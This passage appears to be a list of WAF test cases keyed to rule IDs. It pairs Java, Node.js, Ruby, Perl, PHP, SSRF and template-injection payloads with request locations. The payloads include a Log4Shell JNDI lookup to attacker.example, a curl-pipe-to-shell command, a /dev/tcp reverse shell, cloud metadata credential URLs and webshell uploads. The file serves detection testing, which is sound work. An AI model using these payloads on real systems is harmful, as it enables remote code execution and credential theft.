    ("java", "944110 Java process spawn: XStream event handler", "body:application/xml", "users", "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("java", "944110 Java process spawn: Runtime via java. reflection in form", "form", "payload", "java.lang.Class.forName('java.lang.Runtime').getMethod('exec',String.class).invoke(java.lang.Runtime.getRuntime(),'id')"),
    # --- 944120 / 944240 Java serialisation gadget names ---
    ("java", "944120 Java serialization: CommonsCollections InvokerTransformer chain in XML", "body:application/xml", "import", "<java><object class=\"org.apache.commons.collections.functors.ChainedTransformer\"><array class=\"org.apache.commons.collections.Transformer\" length=\"2\"><void index=\"0\"><object class=\"org.apache.commons.collections.functors.ConstantTransformer\"><class>java.lang.Runtime</class></object></void><void index=\"1\"><object class=\"org.apache.commons.collections.functors.InvokerTransformer\"><string>exec</string></object></void></array></object></java>"),
    ("java", "944120 Java serialization: XMLDecoder ProcessBuilder (WebLogic CVE-2017-10271)", "body:text/xml", "wls-wsat/CoordinatorPortType", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"),
    ("java", "944120 Java serialization: XMLDecoder Runtime exec in form field", "form", "xml", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>calc</string></void></object></java>"),
    ("java", "944240 Java serialization: ForClosure/WhileClosure gadget", "form", "state", "org.apache.commons.collections.functors.WhileClosure org.apache.commons.collections.functors.ForClosure java.lang.Runtime"),
    ("java", "944240 Java serialization: CloneTransformer / PrototypeSerializationFactory", "cookie", "viewstate", "org.apache.commons.collections.functors.CloneTransformer$PrototypeSerializationFactory"),
    ("java", "944240 Java serialization: InstantiateFactory in query", "query", "obj", "org.apache.commons.collections.functors.InstantiateFactory"),
    ("java", "944240 Java serialization: InvokerTransformer chain in JSON (Jackson default typing)", "json", "", "[\"org.apache.commons.collections.functors.InvokerTransformer\",{\"iMethodName\":\"exec\",\"iParamTypes\":[\"java.lang.String\"],\"iArgs\":[\"id\"]}]"),
    # --- 944130 suspicious Java classes ---
    ("java", "944130 suspicious Java class: Struts2 S2-016 redirect: OGNL xwork2", "path", "", "/login.action?redirect:${#a=@com.opensymphony.xwork2.ActionContext@getContext(),#b=#a.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#b.getWriter().println('pwned'),#b.getWriter().close()}"),
    ("java", "944130 suspicious Java class: javax.script.ScriptEngineManager", "form", "expr", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')"),
    ("java", "944130 suspicious Java class: Fastjson JdbcRowSetImpl via com.sun", "json", "user", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}"),
    ("java", "944130 suspicious Java class: FreeMarker Execute", "form", "template", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("java", "944130 suspicious Java class: javax.naming.InitialContext lookup", "query", "q", "new javax.naming.InitialContext().lookup('rmi://attacker.example:1099/Object')"),
    ("java", "944130 suspicious Java class: java.io.File read in cookie", "cookie", "tpl", "${new java.util.Scanner(new java.io.File('/etc/passwd')).useDelimiter('\\\\Z').next()}"),
    # --- 944140 JSP upload ---
    ("java", "944140 JSP upload: webshell jsp", "multipart", "file", "cmd.jsp"),
    ("java", "944140 JSP upload: jspx", "multipart", "upload", "shell.jspx"),
    ("java", "944140 JSP upload: trailing dot", "multipart", "attachment", "browser.jsp."),
    ("java", "944140 JSP upload: X-Filename header (Tomcat PUT-style upload)", "raw", "", _post("/upload", "application/octet-stream", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "X-Filename: ../webapps/ROOT/x.jsp\r\n")),
    # --- 944150 / 944151 Log4Shell ---
    ("java", "944150 Log4Shell: jndi ldap in User-Agent", "header:User-Agent", "", "${jndi:ldap://attacker.example:1389/a}"),
    ("java", "944150 Log4Shell: jndi in X-Api-Version", "header:X-Api-Version", "", "${jndi:ldap://${env:USER}.x.attacker.example/a}"),
    ("java", "944150 Log4Shell: nested lower lookups", "query", "q", "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://attacker.example/o}"),
    ("java", "944150 Log4Shell: ::- default-value obfuscation", "form", "username", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}"),
    ("java", "944150 Log4Shell: ctx lookup in cookie", "cookie", "JSESSIONID", "${ctx:loginId}"),
    ("java", "944150 Log4Shell: in URL path", "path", "", "/${jndi:dns://attacker.example/p}"),
    ("java", "944150 Log4Shell: in XML attribute", "body:application/xml", "login", "<?xml version=\"1.0\"?><login user=\"${jndi:ldap://attacker.example/u}\"><pw>x</pw></login>"),
    ("java", "944151 Log4Shell: long padded nested lookup", "header:X-Forwarded-For", "", "${${env:NOTHING_SET_HERE_AT_ALL_PLEASE:-j}ndi${env:ANOTHER_UNSET_ENVIRONMENT_VARIABLE:-:}ldap://attacker.example/a}"),
    ("java", "944151 Log4Shell: upper/date obfuscation", "header:Referer", "", "${${upper:j}${date:'n'}${upper:d}${upper:i}:ldaps://attacker.example/z}"),
    ("java", "944151 Log4Shell: entity-encoded dollar-brace", "form", "comment", "&dollar;&lbrace;jndi:ldap://attacker.example/h}"),
    ("java", "944151 Log4Shell: sys property exfil", "json", "email", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/x}"),
    # --- 944200 / 944210 Java serialization magic bytes ---
    ("java", "944200 serialization magic: raw AC ED 00 05 body", "raw", "", _post("/invoker/JMXInvokerServlet", "application/x-java-serialized-object", "\udcac\udced\x00\x05sr\x00\x11java.util.HashMap\x05\x07\udcda\udcc1\udcc3\x16`\udcd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01")),
    ("java", "944200 serialization magic: raw stream to Jenkins CLI", "raw", "", _post("/cli", "application/octet-stream", "\udcac\udced\x00\x05sr\x002org.apache.commons.collections.keyvalue.TiedMapEntry\udc8a\udcad\udcd2\udc9b9\udcc1\x1f\udcdb\x02\x00\x02L\x00\x03keyt\x00\x12Ljava/lang/Object;xp", "Side: upload\r\nSession: 1f2e3d4c-5b6a-7980-a1b2-c3d4e5f60718\r\n")),
    ("java", "944200 serialization magic: raw stream to WebLogic T3-over-HTTP / Java RMI endpoint", "raw", "", _post("/wls-wsat/remote", "application/x-java-serialized-object", "\udcac\udced\x00\x05sr\x00*org.apache.commons.collections.map.LazyMapn\udce5\udc94\udc82\udc9ey\x10\udc94\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;xp")),
    ("java", "944210 serialization magic: rO0AB base64 in cookie (rememberMe-style)", "cookie", "session", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA="),
    ("java", "944210 serialization magic: JSF ViewState", "form", "javax.faces.ViewState", "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJwdAAML2luZGV4LnhodG1s"),
    ("java", "944210 serialization magic: base64 stream in JSON", "json", "token", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7"),
    ("java", "944210 serialization magic: base64 stream with one-byte prefix in header", "header:X-Auth-Token", "", "AKztAAVzcgARamF2YS51dGlsLkhhc2hTZXS6RIWVlri3NAMAAHhwdwwAAAAQP0AAAAAAAAFzcgAMamF2YS5uZXQuVVJM"),
    # --- 944250 suspicious Java method ---
    ("java", "944250 suspicious Java method: java.lang.Runtime getRuntime", "query", "cmd", "java.lang.Runtime.getRuntime().exec(\"whoami\")"),
    ("java", "944250 suspicious Java method: Nashorn Java.type ProcessBuilder", "form", "script", "var pb = Java.type('java.lang.ProcessBuilder'); new pb('id').start();"),
    ("java", "944250 suspicious Java method: Groovy in Jenkins script param", "form", "script", "def p = new java.lang.ProcessBuilder(['sh','-c','id']).start(); println p.text"),
    ("java", "944250 suspicious Java method: SpEL in header", "header:spring.cloud.function.routing-expression", "", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/spring4shell\")"),
    # --- 944260 malicious class-loading (Spring4Shell) ---
    ("java", "944260 Spring4Shell: class.module.classLoader pipeline", "form", "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
    ("java", "944260 Spring4Shell: suffix param", "query", "class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
    ("java", "944260 Spring4Shell: directory param in path", "path", "", "/app/index?class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"),
    ("java", "944260 Spring FileSystemXmlApplicationContext (ActiveMQ CVE-2023-46604 style)", "query", "url", "org.springframework.context.support.FileSystemXmlApplicationContext"),
    ("java", "944260 Spring ClassPathXml/FileSystemXml in JSON (Jackson gadget)", "json", "config", "[\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"http://attacker.example/spel.xml\"]"),
    # --- 934100 Node.js injection 1/2 ---
    ("generic", "934100 Node.js: node-serialize IIFE (CVE-2017-5941)", "cookie", "profile", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){console.log(o)});}()\"}"),
    ("generic", "934100 Node.js: process.mainModule.require", "query", "q", "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
    ("generic", "934100 Node.js: this.constructor escape (vm sandbox)", "form", "expr", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("generic", "934100 Node.js: eval with String.fromCharCode", "json", "calc", "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41))"),
    ("generic", "934100 Node.js: process.binding spawn", "query", "filter", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:true}]})"),
    ("generic", "934100 Node.js: new Function returning process.env", "cookie", "fmt", "new Function('return process.env')()"),
    # --- 934101 Node.js injection 2/2 (PL2) ---
    ("generic", "934101 Node.js: require('fs').readFileSync", "query", "name", "require('fs').readFileSync('/etc/passwd','utf8')"),
    ("generic", "934101 Node.js: child_process spawn", "form", "cmd", "require('child_process').spawn('sh',['-c','curl http://attacker.example/x|sh'])"),
    ("generic", "934101 Node.js: fs.writeFile webshell drop", "json", "template", "global.process.mainModule.constructor._load('fs').writeFile('/app/public/x.js','require(\"child_process\").exec(process.argv[2])',()=>{})"),
    ("generic", "934101 Node.js: child_process.fork", "cookie", "job", "require('child_process').fork('/tmp/payload.js')"),
    # --- 934110 SSRF cloud metadata ---
    ("ssrf", "934110 SSRF: AWS IMDS credentials", "query", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "934110 SSRF: GCP metadata token", "form", "webhook", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "934110 SSRF: Azure IMDS", "json", "imageUrl", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("ssrf", "934110 SSRF: decimal-encoded IMDS", "query", "image", "http://2852039166/latest/user-data"),
    ("ssrf", "934110 SSRF: IPv4-mapped IPv6 IMDS", "cookie", "avatar", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ssrf", "934110 SSRF: ECS task credentials endpoint", "body:application/xml", "feeds", "<?xml version=\"1.0\"?><feed><source>http://169.254.170.2/v2/credentials/</source></feed>"),
    # --- 934190 scheme-less localhost / internal hostname ---
    ("ssrf", "934190 SSRF: scheme-less localhost admin", "query", "host", "localhost/server-status"),
    ("ssrf", "934190 SSRF: host.docker.internal", "form", "callback", "host.docker.internal/admin"),
    ("ssrf", "934190 SSRF: kubernetes API secrets", "json", "target", "kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets"),
    ("ssrf", "934190 SSRF: localtest.me loopback alias", "query", "proxy", "localtest.me/internal/config"),
    ("ssrf", "934190 SSRF: in cookie", "cookie", "backend", "localhost.localdomain/actuator/env"),
    # --- 934130 prototype pollution ---
    ("generic", "934130 prototype pollution: __proto__ in query param name", "path", "", "/api/settings?__proto__[isAdmin]=true"),
    ("generic", "934130 prototype pollution: __proto__ JSON body", "json", "", "{\"__proto__\":{\"isAdmin\":true,\"role\":\"admin\"}}"),
    ("generic", "934130 prototype pollution: constructor[prototype] form", "form", "constructor[prototype][outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s"),
    ("generic", "934130 prototype pollution: constructor.prototype dotted", "query", "constructor.prototype.polluted", "yes"),
    ("generic", "934130 prototype pollution: __proto__ in cookie", "cookie", "prefs", "j:{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("generic", "934130 prototype pollution: constructor[prototype] query param name", "path", "", "/api/user?constructor[prototype][isAdmin]=1"),
    # --- 934150 Ruby injection ---
    ("generic", "934150 Ruby: Process.spawn", "query", "cmd", "Process.spawn(\"id\")"),
    ("generic", "934150 Ruby: Process.spawn reverse shell", "form", "code", "Process.spawn(\"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\")"),
    ("generic", "934150 Ruby: YAML/ERB payload with Process.spawn", "json", "config", "#{Process.spawn('touch /tmp/pwned')}"),
    ("generic", "934150 Ruby: Process . spawn with spaces in cookie", "cookie", "_session", "Process . spawn ( 'curl attacker.example' )"),
    # --- 934160 Node.js DoS ---
    ("generic", "934160 Node.js DoS: while(true)", "query", "expr", "while(true){}"),
    ("generic", "934160 Node.js DoS: while(1) in vm eval", "form", "formula", "(function(){while(1);})()"),
    ("generic", "934160 Node.js DoS: while(!0)", "json", "script", "while (!0) {}"),
    ("generic", "934160 Node.js DoS: while(this) in cookie", "cookie", "fn", "while(this){}"),
    ("generic", "934160 Node.js DoS: while with new object", "query", "filter", "while(new Date){}"),
    # --- 934170 PHP data scheme ---
    ("php", "934170 data scheme: base64 PHP include", "query", "page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+"),
    ("php", "934170 data scheme: plaintext PHP", "form", "file", "data:text/plain,<?php phpinfo(); ?>"),
    ("php", "934170 data scheme: charset parameter", "cookie", "tpl", "data:text/plain;charset=utf-8;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+"),
    ("php", "934170 data scheme: wildcard type", "json", "include", "data://*/*;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCdpZCcpOyA/Pg=="),
    # --- 934120 SSRF URL with IP address (PL2) ---
    ("ssrf", "934120 SSRF IP: decimal loopback", "query", "url", "http://2130706433/admin"),
    ("ssrf", "934120 SSRF IP: hex loopback", "form", "feed", "http://0x7f000001:8080/manager/html"),
    ("ssrf", "934120 SSRF IP: octal dotted", "json", "link", "http://0177.0000.0000.0001/"),
    ("ssrf", "934120 SSRF IP: gopher to redis", "query", "src", "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a"),
    ("ssrf", "934120 SSRF IP: dict hex-dotted memcached", "cookie", "remote", "dict://0x7f.0x00.0x00.0x01:11211/stats"),
    ("ssrf", "934120 SSRF IP: IPv6 loopback", "query", "callback", "http://[::1]:2375/containers/json"),
    ("ssrf", "934120 SSRF IP: internal RFC1918 host", "body:application/xml", "import", "<?xml version=\"1.0\"?><import><url>http://10.0.0.5:8500/v1/agent/self</url></import>"),
    # --- 934140 Perl injection (PL2) ---
    ("generic", "934140 Perl: @{[system]} interpolation", "query", "name", "@{[system \"id\"]}"),
    ("generic", "934140 Perl: backticks in interpolation", "form", "subject", "@{[`cat /etc/passwd`]}"),
    ("generic", "934140 Perl: interpolation with spaces in cookie", "cookie", "tmpl", "@{ [ exec('/bin/sh') ] }"),
    ("generic", "934140 Perl: open pipe", "json", "title", "@{[open(F,\"|curl attacker.example\")]}"),
    # --- 934180 SSTI (PL2) ---
    ("ssti", "934180 SSTI: Jinja2 subclasses loop", "query", "name", "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("ssti", "934180 SSTI: Tornado import os", "form", "template", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti", "934180 SSTI: Django debug tag", "query", "msg", "{% debug %}"),
    ("ssti", "934180 SSTI: ERB system", "json", "greeting", "<%= system('cat /etc/passwd') %>"),
    ("ssti", "934180 SSTI: ERB backticks in cookie", "cookie", "note", "<%= `id` %>"),
    ("ssti", "934180 SSTI: Twig/Nunjucks set", "form", "body", "{% set cmd = 'id' %}{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
]
